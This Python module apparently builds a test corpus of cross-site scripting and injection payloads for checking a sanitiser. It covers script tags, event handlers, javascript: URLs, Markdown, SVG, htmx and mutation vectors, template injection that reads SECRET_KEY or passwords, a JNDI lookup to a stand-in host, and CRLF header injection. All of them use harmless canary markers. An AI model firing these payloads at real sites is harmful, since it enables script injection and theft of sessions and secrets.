"""Texts that try to become script: made by classes, the same ones in every run.

Each sets `__pwned` or asks for an address with `canary` in it, so that a browser can tell. Database
text holds no byte 0; the other controls are there.
"""

from collections.abc import Iterator, Sequence

RUN = "__pwned=1"

# An element that acts by itself or at a touch; {run} is what it runs.
ELEMENTS = (
    "<script>{run}</script>",
    "<script src=/canary/x.js></script>",
    '<script type="module">{run}</script>',
    "<img src=x onerror={run}>",
    "<img srcset=/canary/s onerror={run}>",
    "<svg onload={run}>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<video poster=/canary/p></video>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run}>x</button>",
    "<a href=# tabindex=0 autofocus onfocus={run}>x</a>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<div popover id=pp onbeforetoggle={run}></div><button popovertarget=pp>x</button>",
    "<marquee onstart={run}>x</marquee>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src=/canary/f></iframe>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<object data=/canary/o></object>",
    "<embed src=/canary/e>",
    "<link rel=stylesheet href=/canary/l.css>",
    "<link rel=prefetch href=/canary/pre>",
    "<style>@import '/canary/i.css';</style>",
    "<style onload={run}></style>",
    "<b style=background:url(/canary/b)>x</b>",
    "<b style=animation-name:x onanimationstart={run}>x</b>",
    "<meta http-equiv=refresh content=0;url=/canary/m>",
    "<base href=/canary/>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<form id=ff></form><button form=ff formaction=javascript:{run}>x</button>",
    "<div onpointerover={run} onmouseover={run}>x</div>",
    "<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>",
)
# What stands before an element to leave the place the text is put into.
PREFIXES = (
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "--!>",
    "</option></select>",
    "</noscript>",
    "]]>",
    "</svg>",
    "</template>",
    "</td></tr></table>",
    "</pre></code>",
    "</a></button>",
    "</dialog></details>",
)
AFTER_PREFIX = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg/onload={run}>",
    "<p hx-get=/canary/h hx-trigger=load>x</p>",
)
ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    " javascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "&#106;avascript:{run}",
    "javascript%3A{run}",
    "javascript://x.example/%0a{run}",
    "javascript:void('canary'),{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;charset=utf-8,%3Cscript%3E{run}%3C/script%3E",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:https://x.example/{run}",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "//canary.example/x",
    "\\\\canary.example\\x",
    "/\\canary.example/x",
    "https:canary.example/x",
    "file:///canary",
)
# Labels differ, because of several of one label in a text the first counts.
IN_MARKDOWN = (
    "[x]({address})",
    "<{address}>",
    "[x][r{number}]\n\n[r{number}]: {address}",
    '[x](<{address}> "t")',
)
MARKDOWN = (
    '[x](https://x.example/"onmouseover="{run})',
    "[x](https://x.example/ \"' onfocus='{run}' autofocus='\")",
    '![x](/canary/i "t")',
    '![x"onerror="{run}](x)',
    "[![x](/canary/i)](javascript:{run})",
    "`<img src=x onerror={run}>`",
    "    <img src=x onerror={run}>",
    "> <img src=x onerror={run}>",
    "- <img src=x onerror={run}>",
    "# <img src=x onerror={run}>",
    "|<img src=x onerror={run}>|b|\n|-|-|\n|c|d|",
    '|a|b|\n|:-:"onclick={run}|-|\n|c|d|',
    "**<img src=x onerror={run}>**",
    "*_<svg onload={run}>_*",
    "\\<img src=x onerror={run}\\>",
    "&lt;img src=x onerror={run}&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "<!-- --><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<?x ?><img src=x onerror={run}>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<!DOCTYPE x [<!ENTITY e '{run}'>]>",
    "https://x.example/<script>{run}</script>",
    "www.x.example/'onclick='{run}",
    "<https://x.example/\"onclick='{run}'>",
    "<a@x.example\"onclick='{run}'>",
    "~~<img src=x onerror={run}>~~",
    '1. "><svg onload={run}>',
    "[x](javascript:{run}\\)",
    "[x](&#x6A;avascript:{run})",
    "[x](\\javascript:{run})",
    "[^1]: <img src=x onerror={run}>",
)
DRAWN = (
    "<svg><script>{run}</script></svg>",
    "<svg><script href=/canary/x.js /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x to=1>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text y=9>x</text></a></svg>",
    "<svg><use href=/canary/u#x /></svg>",
    "<svg><image href=/canary/i onerror={run} /></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><style>@import '/canary/s'</style></svg>",
    "<svg><title><img src=x onerror={run}></title></svg>",
    "<svg><desc><script>{run}</script></desc></svg>",
    "<svg><discard onbegin={run}>",
    "<svg><handler type='text/javascript'>{run}</handler></svg>",
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{run}"/>',
    "<?xml-stylesheet href='/canary/s'?><svg/>",
    "<math href=javascript:{run}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
)
TEMPLATES = (
    "{{{{ {run} }}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{request.user.password}}}}canary",
    "{{{{settings.SECRET_KEY}}}}canary",
    "{{{{'<img src=x onerror={run}>'|safe}}}}",
    "{{% include '/canary' %}}",
    "{{% load canary %}}",
    "{{% autoescape off %}}<svg onload={run}>{{% endautoescape %}}",
    "{{% url 'canary' %}}",
    "{{# canary #}}<svg onload={run}>",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "<% {run} %>",
    "@({run})",
    "[[{run}]]",
    "%(canary)s",
    "%s{run}",
    "{{0.__class__}}{run}",
    "$(canary)",
    "`canary`",
    "${{jndi:ldap://canary.example/x}}",
)
LIVE = (
    "<p hx-get=/canary/h hx-trigger=load>x</p>",
    "<p data-hx-get=/canary/h data-hx-trigger=load>x</p>",
    "<p hx-post=/canary/h hx-trigger=load>x</p>",
    "<p hx-put=/canary/h hx-trigger=revealed>x</p>",
    "<p hx-delete=/canary/h hx-trigger='every 1s'>x</p>",
    "<p hx-on:load={run} hx-trigger=load>x</p>",
    "<p hx-on::after-process={run}>x</p>",
    "<p hx-on='htmx:load: {run}'>x</p>",
    "<p hx-vals='js:{{x:{run}}}' hx-get=/canary/h hx-trigger=load>x</p>",
    "<p hx-headers='js:{{x:{run}}}' hx-get=/canary/h hx-trigger=load>x</p>",
    "<p hx-get=/canary/h hx-trigger='load[{run}]'>x</p>",
    "<p hx-ext=canary hx-get=/canary/h hx-trigger=load>x</p>",
    "<p hx-boost=true><a href=/canary/h>x</a></p>",
    "<p hx-swap-oob=true id=main hx-get=/canary/o hx-trigger=load>x</p>",
    "<p hx-include=* hx-post=/canary/i hx-trigger=load>x</p>",
    "<p hx-confirm={run} hx-get=/canary/h hx-trigger=load>x</p>",
    "<p hx-action=/canary/a hx-trigger=load>x</p>",
    "<p hx-config='{{\"canary\":1}}' hx-get=/canary/h hx-trigger=load>x</p>",
    "<meta name=htmx-config content='{{\"canary\":1}}'>",
    "<meta name=sign-in-url content=/canary/s>",
    "<hx-partial hx-target=body hx-get=/canary/h hx-trigger=load>x</hx-partial>",
    "<template hx type=partial hx-get=/canary/h hx-trigger=load></template>",
)
MUTATED = (
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror={run}&gt;</style>",
    "<math><style><img src=x onerror={run}></style></math>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<xmp><img src=x onerror={run}></xmp>",
    "<plaintext><img src=x onerror={run}>",
    "<template><script>{run}</script></template>",
    "<select><template><img src=x onerror={run}></template></select>",
    "<table><a><td><img src=x onerror={run}>",
    "<p><table><tr><svg><desc><td><img src=x onerror={run}>",
    "<a><a><img src=x onerror={run}>",
    '<textarea><img title="</textarea><img src=x onerror={run}>">',
    '<title><a title="</title><img src=x onerror={run}>">',
    '<iframe><img title="</iframe><img src=x onerror={run}>">',
    '<noframes><img title="</noframes><img src=x onerror={run}>">',
    "<b><img src=`x` onerror={run}//`>",
    '<img alt="``onerror={run} " src=x>',
    '<svg><p><style><g title="</style><img src=x onerror={run}>">',
    "<dl><dd><svg><![CDATA[</svg><img src=x onerror={run}>]]>",
)
# Without a single angle bracket: out of an attribute, out of a string of a script.
INSIDE = (
    '" onfocus={run} autofocus x="',
    "' onfocus={run} autofocus x='",
    "` onfocus={run} autofocus x=`",
    " onfocus={run} autofocus x",
    '"onmouseover="{run}',
    "'onclick='{run}",
    '" style="background:url(/canary/b)',
    '" hx-get="/canary/h" hx-trigger="load',
    "' hx-get='/canary/h' hx-trigger='load",
    '" formaction="javascript:{run}',
    '" href="javascript:{run}',
    '" src="/canary/s" x="',
    '" srcdoc="canary" x="',
    '" accesskey=x onclick={run} x="',
    "&quot; onfocus={run} autofocus x=&quot;",
    "&#34; onfocus={run} autofocus x=&#34;",
    '\\" onfocus={run} autofocus x=\\"',
    "';{run}//",
    '";{run}//',
    "`;{run}//",
    "${{{run}}}`;",
    "\\';{run}//",
    '\\";{run}//',
    "\u2028{run}\u2029",
    "*/{run}/*",
    "-->{run}<!--",
    "</script>{run}",
    "<!--<script>{run}",
    '"}});{run}//',
    "&apos;;{run}//",
    "%22%3E%3Cimg src=x onerror={run}%3E",
    "\\u0022\\u003e\\u003cimg src=x onerror={run}\\u003e",
    "\\x22\\x3e\\x3cimg src=x onerror={run}\\x3e",
    "\n\nLocation: /canary/",
    "\r\nSet-Cookie: canary=1",
)
_SHORT = (
    "<svg onload={run}>",
    "<p onclick={run}>",
    '" onfocus={run} "',
    "' onfocus={run} '",
    "javascript:{run}",
    "{{{{{run}}}}}",
    "</script>{run}",
    "<script>{run}",
    "[x](/canary/)",
    "';{run}//",
    "</title>{run}",
    "<b hx-get=/canary/>",
)
DISGUISED = ("<img src=x onerror={run}>", "<script>{run}</script>")


def _upper(text: str) -> str:
    """The names of elements and attributes in large letters; what runs stays as it is."""
    return "=".join(part.upper() if RUN not in part else part for part in _apart(text))


def _apart(text: str) -> list[str]:
    """Split at each `=` that is not the one of what runs."""
    return [part.replace("\0", RUN) for part in text.replace(RUN, "\0").split("=")]


ENCODED = {
    "plain": lambda text: text,
    "slashes": lambda text: text.replace(" ", "/"),
    "tabs": lambda text: text.replace(" ", "\t"),
    "lines": lambda text: text.replace(" ", "\n"),
    "feeds": lambda text: text.replace(" ", "\x0c"),
    "entities": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "hexadecimal": lambda text: text.replace("<", "&#x3c;").replace(">", "&#x3e;"),
    "unended": lambda text: text.replace("<", "&#60").replace(">", "&#62"),
    "twice": lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "percent": lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    "escapes": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "wide": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "open": lambda text: text.removesuffix(">"),
    "doubled": lambda text: text.replace("<", "<<"),
    "nested": lambda text: text.replace("<", "<x<", 1),
    "large": _upper,
}
SIGNS = {
    "start": "\x01",
    "bell": "\x07",
    "tabulator": "\x0b",
    "separator": "\x1f",
    "delete": "\x7f",
    "next line": "\x85",
    "soft hyphen": "\xad",
    "zero width": "\u200b",
    "joiner": "\u200d",
    "right to left": "\u202e",
    "isolate": "\u2066",
    "no break": "\ufeff",
    "replacement": "\ufffd",
    "no character": "\ufffe",
    "ideographic": "\u3000",
    "tag": "\U000e0041",
}


def _disguised() -> Iterator[str]:
    """A sign that some program drops, in the name, before it, before the end and in the address."""
    for sign in SIGNS.values():
        for text in DISGUISED:
            yield f"<{sign}{text[1:]}"
            yield f"{text[:3]}{sign}{text[3:]}"
        yield f"<img src=x{sign}onerror={{run}}>"
        yield f"[x](java{sign}script:{{run}})"


def _written() -> Iterator[tuple[str, str]]:
    for name, encode in ENCODED.items():
        chosen: Sequence[str] = ELEMENTS if name in ("plain", "slashes", "entities") else ()
        for text in chosen or ELEMENTS[:: 2 if name in ("large", "open", "tabs", "lines") else 4]:
            yield f"element {name}", encode(text.replace("{run}", RUN))
    for prefix in PREFIXES:
        for text in AFTER_PREFIX:
            yield "out of its place", prefix + text.replace("{run}", RUN)
    for number, template in enumerate(ADDRESSES):
        address = template.replace("{run}", RUN)
        yield "address", address
        for text in IN_MARKDOWN:
            told = text.replace("{address}", address).replace("{number}", str(number))
            yield "address in Markdown", told
    for text in _disguised():
        yield "hidden sign", text.replace("{run}", RUN)
    for kind, texts in (
        ("Markdown", MARKDOWN),
        ("drawing", DRAWN),
        ("template", TEMPLATES),
        ("htmx", LIVE),
        ("mutation", MUTATED),
        ("attribute or string", INSIDE),
        ("short", _SHORT),
    ):
        for text in texts:
            yield kind, text.format(run=RUN)


def payloads() -> dict[str, str]:
    """payload -> its class, in a fixed order, each once."""
    found: dict[str, str] = {}
    for kind, text in _written():
        found.setdefault(text, kind)
    return found


ALL: tuple[str, ...] = tuple(payloads())


def _blocks(size: int) -> Iterator[str]:
    """Payloads in paragraphs of one text: the first that has any effect shows."""
    held: list[str] = []
    for one in ALL:
        if sum(len(text.encode()) + 2 for text in (*held, one)) > size:
            yield "\n\n".join(held)
            held = []
        held.append(one)
    yield "\n\n".join(held)


SHORT: tuple[str, ...] = tuple(one.format(run=RUN) for one in _SHORT)
# Texts short enough for the index of a column; together they are all payloads.
BLOCKS: tuple[str, ...] = tuple(_blocks(1_500))


def fitting(length: int) -> tuple[str, ...]:
    """Those that a column of `length` characters holds whole."""
    return tuple(one for one in ALL if len(one) <= length)
